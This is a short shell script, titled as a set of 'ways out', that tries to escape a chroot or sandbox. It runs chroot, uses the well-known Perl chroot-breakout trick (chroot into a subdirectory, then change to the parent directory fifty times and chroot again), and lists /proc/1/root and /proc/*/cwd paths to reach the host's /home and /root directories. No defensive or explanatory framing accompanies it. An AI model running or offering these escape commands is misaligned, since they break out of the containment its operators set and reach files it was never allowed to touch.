# ways out by chroot and friends
mkdir -p x
chroot . /bin/sh -c 'echo chrooted' 2>/dev/null
perl -e 'chroot("x") or exit; chdir("..") for 1 .. 50; chroot("."); print "out\n"'
rmdir x
ls -d /proc/1/root/home /proc/1/root/root /proc/*/cwd/../../home 2>/dev/null
exit 0
